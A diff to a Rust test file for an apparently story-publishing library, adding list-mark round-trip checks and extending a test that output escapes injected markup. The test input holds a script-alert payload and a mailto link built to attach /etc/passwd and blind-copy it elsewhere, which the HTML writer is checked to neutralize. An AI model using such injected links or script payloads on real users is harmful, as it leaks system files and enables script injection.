@@ -3,6 +3,7 @@
 use std::path::Path;
 
 use super::*;
+use crate::container::own;
 use crate::library::{Shard, ShardBuilder};
 use crate::seeds::SEEDS;
 
@@ -26,6 +27,16 @@ fn written(form: Form, shard: &Shard) -> String {
     String::from_utf8(out).unwrap()
 }
 
+/// Its blocks, with the marks that are the text's own.
+fn marks(story: StoryRef<'_>) -> String {
+    let text = story.text();
+    let mark = |block: &crate::layout::blocks::Block| {
+        let mark = text.at(block.mark).to_string();
+        format!("{} {}", block.kind.name(), if own::is_told(&mark) { mark } else { String::new() })
+    };
+    story.blocks().iter().map(mark).collect::<Vec<_>>().join("|")
+}
+
 /// All that has to come back of a story.
 fn told(story: StoryRef<'_>) -> [String; 7] {
     let (catalog, _) = Catalog::built_in();
@@ -37,7 +48,7 @@ fn told(story: StoryRef<'_>) -> [String; 7] {
         story.story().date.map(|date| date.to_string()).unwrap_or_default(),
         clean(story.link()),
         story.notes(&catalog).iter().map(ToString::to_string).collect::<Vec<_>>().join("|"),
-        story.blocks().len().to_string(),
+        marks(story),
     ]
 }
 
@@ -59,8 +70,25 @@ fn what_was_written_comes_back() {
 }
 
 #[test]
+fn lists_keep_numbers_and_letters() {
+    let text = "Rules of the quay\n\nThey are these:\n\n1. one\n2) two\n(3) three\n(iv) four\na) five\n- 12. six\n\
+                - b) seven\n* eight\n\nSource: RFA, March 3, 2024\nhttps://a.example/1\n";
+    let before = shard(&[("a.txt", text.as_bytes())]);
+    for (form, file) in [(Form::Markdown, "a.md"), (Form::Brief, "b.md"), (Form::Html, "c.html")] {
+        let text = written(form, &before);
+        let after = shard(&[(file, text.as_bytes())]);
+        let told = |shard: &Shard| stories(shard).map(told).collect::<Vec<_>>();
+        assert_eq!(told(&before), told(&after), "{text}");
+        for mark in ["1.", "2)", "(3)", "(iv)", "a)"] {
+            assert!(told(&after)[0][6].contains(&format!("list_item {mark}")), "{mark}: {text}");
+        }
+    }
+}
+
+#[test]
 fn no_sign_of_a_story_has_a_meaning_in_what_is_written() {
     let text = "<script>alert(1)</script> [1]\n\nBody with **stars**, <b>tags</b>, `ticks` and a [link](https://a.example/).\n\
+                Or mailto:desk@a.example?attach=/etc/passwd&bcc=x@y.example to say so.\n\
                 # not a heading\n\n---\n\n_Source:_ not one\n\n1\\. <!-- end of the stories --> & &lt;\n\n\
                 \"quoted\" ' onclick=x https://a.example/\"x=1 and ~~~\n\nSource: R_F_A <x>, March 3, 2024\nhttps://a.example/?a=1&b=_2_\n";
     let before = shard(&[("a.txt", text.as_bytes())]);
@@ -75,6 +103,8 @@ fn no_sign_of_a_story_has_a_meaning_in_what_is_written() {
     }
     let page = written(Form::Html, &before);
     assert!(!page.contains("<script") && !page.contains("<b>"), "{page}");
+    // A link that a colleague follows attaches nothing.
+    assert!(page.contains("href=\"mailto:desk@a.example\">mailto:desk@a.example?attach="), "{page}");
 }
 
 #[test]
